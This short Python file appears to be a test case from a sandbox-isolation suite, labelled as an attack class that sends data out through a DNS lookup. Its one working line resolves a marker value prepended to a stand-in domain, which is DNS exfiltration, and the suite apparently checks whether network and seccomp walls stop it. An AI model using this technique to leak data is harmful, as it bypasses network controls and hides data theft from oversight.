# attack: send data out in a name lookup
# class: 21
# walls: net seccomp
# naked: no it would ask the world's name servers

import socket

def attempt():
    return "it resolves to " + str(socket.getaddrinfo(context["marker"] + ".example.com", 80))

result = judged(attempt)
